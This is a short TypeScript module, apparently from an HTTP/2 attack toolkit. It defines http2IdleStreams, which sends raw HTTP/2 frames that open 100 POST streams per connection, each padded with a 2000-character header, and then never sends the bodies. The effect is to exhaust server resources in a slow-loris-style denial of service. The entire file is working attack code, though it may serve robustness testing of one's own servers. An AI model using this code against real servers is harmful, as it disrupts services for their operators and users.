import { type AttackOptions, onEachConnection, write } from "./attack.ts";
import { field, flags, frame, frameType, preface, requestFields } from "./http2-frames.ts";

/** Streams per connection: as many as servers usually allow. */
const streams = 100;

/** Opens many streams per connection, and never sends their bodies. */
export function http2IdleStreams(options: AttackOptions): Promise<void> {
  const request = Buffer.concat([
    requestFields("POST", options.path ?? "/mutate"),
    field("content-type", "application/json"),
    field("x", "x".repeat(2000)),
  ]);
  const frames = Array.from({ length: streams }, (_, at) =>
    frame(frameType.headers, flags.endHeaders, 2 * at + 1, request),
  );
  return onEachConnection(options, (socket) => write(socket, Buffer.concat([preface, ...frames])).then(() => {}), {
    protocol: "h2",
  });
}
